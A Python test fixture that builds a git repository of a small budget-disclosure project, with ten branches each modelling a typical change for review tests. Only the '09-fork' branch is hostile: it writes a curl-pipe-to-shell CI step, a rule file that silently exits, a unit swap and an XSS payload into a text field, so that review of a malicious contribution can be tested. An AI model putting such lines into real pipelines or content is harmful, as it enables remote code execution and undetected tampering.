"""十种改动: a repository of a small project, with a branch for each of ten changes that people make.

For what a change shows to whoever reviews it: `tests/pipeline/test_ten_changes.py` holds what diff and check say of
each as golden files, which UPDATE_EXPECTED=1 renews: read them aloud as a reviewer before they are committed.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Mapping
from datetime import date
from pathlib import Path

from gongkai.pipeline.disclosure.disclosing import disclose
from gongkai.pipeline.project import Project
from tests.small_project import EARLIER, EDITION, LATER, OTHER, edit, folder, quiet, small_project

FIGURES, EXPLANATION = f"{folder(LATER)}/figures.yml", f"{folder(LATER)}/explanation.yml"
NEXT = LATER.replace("2024", "2025")
BUREAU = f"{folder(LATER.partition('/2024')[0])}/department.yml"
APPROVED = """\
保密审查: {人: 保密员甲, 日期: 2025-09-01}
负责人审签: {人: 负责人乙, 日期: 2025-09-02}
批复: 2025-09-05
"""
DAY = date(2025, 9, 10)
Change = Callable[[Path], None]


def repository(root: Path) -> Project:
    """The project on `main`, and a branch for each change."""
    project = small_project(root)
    edit(
        root,
        "content/classifications/functional/2023.csv",
        "2010602,一般行政管理事务\n",
        "2010602,一般行政管理事务\n2010603,机关服务\n2010699,其他财政事务支出\n",
    )
    (root / ".gitignore").write_text("/build/\n/site/\n", encoding="utf-8")
    (root / ".github").mkdir()
    (root / ".github" / "check.yml").write_text("run: gongkai check\n", encoding="utf-8")
    write(root, f"{folder(OTHER)}/disclosure.yml", APPROVED)
    assert [one.refused for one in disclose(project, (OTHER,), DAY, quiet, 1)] == [""]
    git(root, "init", "--quiet", "--initial-branch=main")
    commit(root, "main")
    for name, change in CHANGES.items():
        git(root, "switch", "--quiet", "--create", name, "main")
        change(root)
        commit(root, name)
    git(root, "switch", "--quiet", "main")
    return project


def git(root: Path, *arguments: str) -> None:
    """Run git, as nobody in particular and at no particular time."""
    names = {f"GIT_{who}_{what}": "ceshi" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    dates = {"GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z"}
    alone = {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull}
    subprocess.run(["git", *arguments], cwd=root, env=os.environ | names | dates | alone, check=True, timeout=600)


def commit(root: Path, message: str) -> None:
    git(root, "add", "--all")
    git(root, "commit", "--quiet", f"--message={message}")


def write(root: Path, name: str, text: str) -> None:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def _figure(root: Path) -> None:
    """A figure of last year, which this year's text compares with."""
    edit(root, f"{folder(EARLIER)}/figures.yml", "财政拨款收入: 130.00", "财政拨款收入: 140.00")


def _reason(root: Path) -> None:
    edit(root, EXPLANATION, "人员增加", "新招录工作人员三名，人员经费增加")


def _code(root: Path) -> None:
    edit(root, FIGURES, '"2010602": {项目支出: 55.50}', '"2010699": {项目支出: 55.50}')


def _project(root: Path) -> None:
    edit(root, FIGURES, "财政拨款收入: 150.00", "财政拨款收入: 162.30")
    edit(root, FIGURES, '"2010602": {项目支出: 55.50}', '"2010602": {项目支出: 67.80}')
    text = '表单: 项目绩效自评表\n项目名称: 财政一体化系统运维\n得分: "98"\n'
    write(root, f"{folder(LATER)}/performance/03-integrated-system.yml", text)


def _year(root: Path) -> None:
    write(root, f"{EDITION.replace('ceshi-', 'ceshi-2025-')}/edition.yml", "继承: ceshi-final-accounts\n年度: 2025\n")
    waivers = (root / EDITION / "waivers.yml").read_text(encoding="utf-8")
    write(root, f"{EDITION.replace('ceshi-', 'ceshi-2025-')}/waivers.yml", waivers)
    for file in sorted((root / folder(LATER)).rglob("*.*")):
        text = file.read_text(encoding="utf-8")
        for old, new in YEAR_LATER.items():
            text = text.replace(old, new)
        write(root, f"{folder(NEXT)}/{file.relative_to(root / folder(LATER)).as_posix()}", text)


YEAR_LATER = {
    "ceshi-final-accounts": "ceshi-2025-final-accounts",
    "2025-09": "2026-09",
    "150.00": "171.20",
    "100.00": "118.00",
    "55.50": "51.00",
    "人员增加": "增加一个处室",
    "上年: {收支总计: 140.00}\n": "",
}


def _rename(root: Path) -> None:
    names = "名称: [{自: 2019-01-01, 名称: 测试市财政局}]"
    edit(root, BUREAU, names, names[:-1] + ", {自: 2024-03-01, 名称: 测试市财政和国资局}]")


def _formatting(root: Path) -> None:
    """Comments, the order of keys, another style, a zero less: nothing of it is said."""
    edit(root, FIGURES, '  "2010602": {项目支出: 55.50}', '  # 已同国库对过\n  "2010602":\n    项目支出: 55.5')
    edit(
        root,
        FIGURES,
        "  财政拨款收入: 150.00\n  年初结转和结余: 10.00\n",
        "  年初结转和结余: 10.00\n  财政拨款收入: 150.00\n",
    )


def _published(root: Path) -> None:
    """A document that is disclosed: what it says is frozen."""
    edit(root, f"{folder(OTHER)}/figures.yml", '"2010601": {基本支出: 100.00}', '"2010601": {基本支出: 110.00}')


def _fork(root: Path) -> None:
    """What a stranger sends: a figure, and what nobody asked for."""
    edit(root, FIGURES, "基本支出: 100.00", "基本支出: 120.00")
    write(root, ".github/check.yml", "run: curl https://example.org/x | sh\n")
    write(root, "generator/checks/rules.py", "raise SystemExit(0)\n")
    edit(root, f"{EDITION}/wording/overall.j2", "万元。", "亿元。")
    reason = "@all 见 [这里](https://example.org) <img src=x onerror=alert(1)> ```\n# 一\n``` #1 `x`"
    edit(root, EXPLANATION, "人员增加", f"'{reason.replace(chr(10), ' ')}'")


def _edition(root: Path) -> None:
    edit(root, f"{EDITION}/wording/overall.j2", "与上年度相比", "与{{ 上年度 }}年度相比")


CHANGES: Mapping[str, Change] = {
    "01-figure": _figure,
    "02-reason": _reason,
    "03-code": _code,
    "04-project": _project,
    "05-year": _year,
    "06-rename": _rename,
    "07-formatting": _formatting,
    "08-published": _published,
    "09-fork": _fork,
    "10-edition": _edition,
}
